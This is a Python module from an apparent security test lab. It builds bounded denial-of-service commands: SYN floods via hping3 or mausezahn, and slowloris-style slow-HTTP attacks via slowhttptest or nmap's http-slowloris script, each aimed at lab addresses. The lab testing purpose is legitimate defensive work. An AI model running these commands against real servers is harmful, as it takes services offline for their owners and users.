"""Denial of service, bounded: half-open connections and requests that never end (T1499)."""

from collections.abc import Callable

from tests.lab.attacks.stage import Stage
from tests.lab.threats import SlowHttp, SynFlood

_FIRST_PORT = 20_000


def _hping3(attack: SynFlood, addr: str) -> list[str]:
    wait = f"u{1_000_000 // attack.rate}"
    words = ["hping3", "-q", "-n", "-S", "-i", wait, "-c", str(attack.count)]
    return [*words, "-p", str(attack.port), addr]


def _mausezahn(attack: SynFlood, addr: str) -> list[str]:
    """One segment from each of ``count`` source ports."""
    ports = f"sp={_FIRST_PORT}-{_FIRST_PORT + attack.count - 1}"
    wait = f"{1_000 // attack.rate}msec"
    text = f"flags=syn,{ports},dp={attack.port}"
    return ["mausezahn", "eth0", "-q", "-c", "1", "-d", wait, "-B", addr, "-t", "tcp", text]


SYN_TOOLS: dict[str, Callable[[SynFlood, str], list[str]]] = {
    "hping3": _hping3,
    "mausezahn": _mausezahn,
}


def syn(stage: Stage, attack: SynFlood) -> str:
    """Send the segments; returns what the tool said."""
    words = SYN_TOOLS[attack.tool](attack, stage.addresses(attack)[0])
    limit_s = 20 + 2 * attack.count / attack.rate
    return stage.run(attack, words, min(limit_s, stage.left_s()))


def _slowhttptest(attack: SlowHttp, addr: str) -> list[str]:
    """Headers that go on for ever, a line every 8 s."""
    return [
        *("slowhttptest", "-H", "-c", str(attack.connections), "-r", "4", "-i", "8"),
        *("-l", str(attack.seconds), "-u", f"http://{addr}:{attack.port}/"),
    ]


def _nmap(attack: SlowHttp, addr: str) -> list[str]:
    """The script http-slowloris; a finished connection is at once replaced."""
    options = f"http-slowloris.timelimit={attack.seconds}s,http-slowloris.send_interval=6s"
    return [
        *("nmap", "-n", "-Pn", "-sT", "-p", str(attack.port), "--script", "http-slowloris"),
        *("--max-parallelism", str(attack.connections), "--script-args", options, addr),
    ]


SLOW_TOOLS: dict[str, Callable[[SlowHttp, str], list[str]]] = {
    "slowhttptest": _slowhttptest,
    "nmap": _nmap,
}


def slow(stage: Stage, attack: SlowHttp) -> str:
    """Hold the connections; returns what the tool said."""
    words = SLOW_TOOLS[attack.tool](attack, stage.addresses(attack)[0])
    return stage.run(attack, words, min(attack.seconds + 30, stage.left_s()))
